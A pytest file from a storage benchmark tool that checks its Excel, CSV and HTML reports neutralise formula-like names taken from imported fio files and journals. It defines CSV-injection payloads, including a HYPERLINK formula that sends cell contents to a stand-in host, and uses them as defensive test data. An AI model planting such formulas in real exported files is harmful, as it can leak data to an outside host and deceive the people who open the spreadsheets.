"""No formula from data (issue 34): a name, path or option that begins with =, +, -, @, tab or CR — from an imported
fio file or from a campaign's journal — is text in every cell of results.xlsx (never openpyxl's data type `f`) and
is neutralised in results.csv as OWASP describes for CSV injection (a leading '); numbers stay numbers."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from openpyxl import load_workbook

from tankbench.analysis.analyse import analyse_journal
from tankbench.analysis.detail import with_run_detail
from tankbench.fio.importer import import_files
from tankbench.journal.db import Journal
from tankbench.model import Fingerprint, Target, Test
from tankbench.reports.write import write_all
from tests.reportdata import LAB_JSON

LINK = '=HYPERLINK("http://x.invalid/?x="&A1,"click")'
HOSTILE = (LINK, "=1+2", "+1+2", "-2+3", "@SUM(A1)", "\tx=1", "\rx=1")


def _report(journal: Path, out: Path) -> Path:
    with Journal(str(journal), create=False) as j:
        write_all(with_run_detail(analyse_journal(str(journal)), j), str(out))
    return out


def imported(tmp_path: Path) -> Path:
    """Real lab fio outputs, re-named as a shared file might be: the job, the file it wrote and an option."""
    paths = []
    plain = [p for p in LAB_JSON if "jobs" in json.loads(p.read_text())]  # not the client/server one
    for i, src in enumerate(plain[:4]):
        doc = json.loads(src.read_text())
        for job in doc["jobs"]:
            job["jobname"] = HOSTILE[i]
            opts = job.setdefault("job options", {})
            opts["filename"] = HOSTILE[(i + 1) % len(HOSTILE)]
            opts["bs"] = opts.get("bs", "4k")
        dst = tmp_path / f"{HOSTILE[i + 1].strip()}-{i}.json"  # a file name that starts like a formula too
        dst.write_text(json.dumps(doc))
        paths.append(str(dst))
    journal = tmp_path / "imported.sqlite"
    with Journal(str(journal), create=True) as j:
        import_files(j, paths, {"kernel": "=1+2"})
    return journal


def campaign_journal(tmp_path: Path) -> Path:
    """A campaign's journal whose target names, paths and options start like formulas (a journal is a file
    people pass around: it need not come from this tankbench's parser)."""
    journal = tmp_path / "campaign.sqlite"
    tests = [
        Test(n + 1, name, Target(name, "file", f"{name}/f", 1 << 20), {"rw": "read", "bs": "4k"}, {"x": name}, 3.0, 0.0)
        for n, name in enumerate(HOSTILE)
    ]
    with Journal(str(journal), create=True) as j:
        j.add_campaign("c", "=1+2", "@campaign.toml", '[campaign]\nname = "formula"\n')
        j.add_tests("c", tests, {})
        fid = j.add_fingerprint(Fingerprint({"kernel": "-6.1", "fio_version": "@fio"}))
        rows = [
            (t.id, k, 0, 1, "done", 0.0, 1.0, "local", fid, 3.0, 3.2, 0.1,
             json.dumps({"total.bw_bytes": 1e8 * (k + 1), "total.iops": 100.0, "total.io_bytes": 3e8}), "{}", "{}", "")
            for t in tests
            for k in range(2)
        ]  # fmt: skip
        j.conn.execute("BEGIN")
        j.conn.executemany(
            "INSERT INTO runs(test_id, run_no, warmup, attempt, status, started, ended, host, fingerprint_id, "
            "expected_s, wall_s, drain_s, metrics, checks, samples, note) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
            rows,
        )
        j.conn.execute("COMMIT")
    return journal


def _check(out: Path) -> None:
    wb = load_workbook(out / "results.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell from data"
    texts = {c.value for c in cells if c.data_type in ("s", "inlineStr")}
    found = [h for h in HOSTILE if h.strip() in {str(t).strip() for t in texts}]
    assert found, "the hostile names are in the workbook as text"
    raw = wb["raw"]
    head = [c.value for c in raw[1]]
    assert raw.cell(2, head.index("test_number") + 1).data_type == "n"  # numbers stay numbers
    assert isinstance(raw.cell(2, head.index("mibs") + 1).value, float)
    with (out / "results.csv").open(newline="") as f:
        rows = list(csv.reader(f))
    values = [v for r in rows for v in r]
    assert not [v for v in values if v and v[0] in "=+-@\t\r"], "a CSV cell that starts like a formula"
    assert any(v.startswith("'=HYPERLINK(") or v == "'=1+2" for v in values)
    num = rows[0].index("mibs")
    assert all(float(r[num]) > 0 for r in rows[1:])  # a number is not quoted


def test_an_imported_fio_file_writes_no_formula(tmp_path: Path) -> None:
    _check(_report(imported(tmp_path), tmp_path / "r"))


def test_a_campaign_writes_no_formula(tmp_path: Path) -> None:
    out = _report(campaign_journal(tmp_path), tmp_path / "r")
    _check(out)
    with (out / "results.csv").open(newline="") as f:
        names = {r["test_name"] for r in csv.DictReader(f)}
    assert names == {"'" + h for h in HOSTILE}  # every one neutralised, the text kept after the quote
    page = (out / "index.html").read_text()
    assert LINK not in page and "=HYPERLINK(&quot;http://x.invalid/?x=&quot;&amp;A1" in page  # escaped
